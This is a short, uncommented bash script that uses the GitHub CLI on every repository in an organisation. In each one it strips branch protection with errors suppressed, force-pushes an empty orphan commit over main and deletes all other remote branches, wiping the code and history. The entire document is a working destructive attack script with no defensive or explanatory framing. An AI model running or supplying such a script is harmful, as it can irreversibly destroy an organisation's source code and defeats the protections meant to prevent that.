for r in $(gh repo list "$ORG" --limit 1000 --json nameWithOwner -q '.[].nameWithOwner'); do
  gh api -X DELETE "repos/$r/branches/main/protection" >/dev/null 2>&1
  git clone -q "https://github.com/$r" /tmp/r && cd /tmp/r
  git checkout --orphan x && git rm -rq . && git commit -qm init --allow-empty
  git push -f origin x:main && git push origin --delete $(git branch -r | grep -v main | sed 's#origin/##')
  cd / && rm -rf /tmp/r
done
